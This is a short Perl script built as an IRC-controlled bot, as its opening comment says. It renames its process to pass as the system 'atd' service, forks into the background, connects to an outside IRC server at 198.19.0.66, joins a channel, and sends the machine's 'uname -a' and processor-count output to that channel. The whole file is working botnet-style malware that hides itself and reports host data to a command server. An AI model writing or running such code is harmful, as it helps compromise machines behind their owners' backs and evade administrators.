#!/usr/bin/perl
# In the manner of the bots that are led over IRC: it names itself after a service, joins, and does two orders.
use strict;
use IO::Socket::INET;
$0 = '/usr/sbin/atd -f';
exit if fork;
my $irc = IO::Socket::INET->new(PeerAddr => '198.19.0.66', PeerPort => 6667, Timeout => 3) or exit 1;
print $irc "NICK x$$\r\nUSER x 8 * :x\r\nJOIN #o\r\n";
sysread $irc, my $order, 100;
for my $command ('uname -a', 'cat /proc/cpuinfo | grep -c processor') {
    my $told = `$command`;
    print $irc "PRIVMSG #o :$told\r\n";
    sleep 1;
}
